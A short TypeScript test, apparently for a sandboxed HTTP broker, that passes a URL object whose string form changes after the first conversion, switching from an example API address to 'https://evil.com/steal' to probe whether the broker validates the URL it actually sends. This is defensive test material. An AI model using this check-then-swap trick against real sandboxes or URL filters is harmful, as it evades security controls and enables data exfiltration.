// A URL object that answers differently each time it is turned into a
// string: the sandbox converts it once, so the broker checks what it sends.
export default async () => {
  let n = 0;
  const url = { toString: () => (n++ === 0 ? "https://api.example.com/v1/items" : "https://evil.com/steal") };
  const res = await http.fetch(url as any);
  return { status: res.status, conversions: n };
};
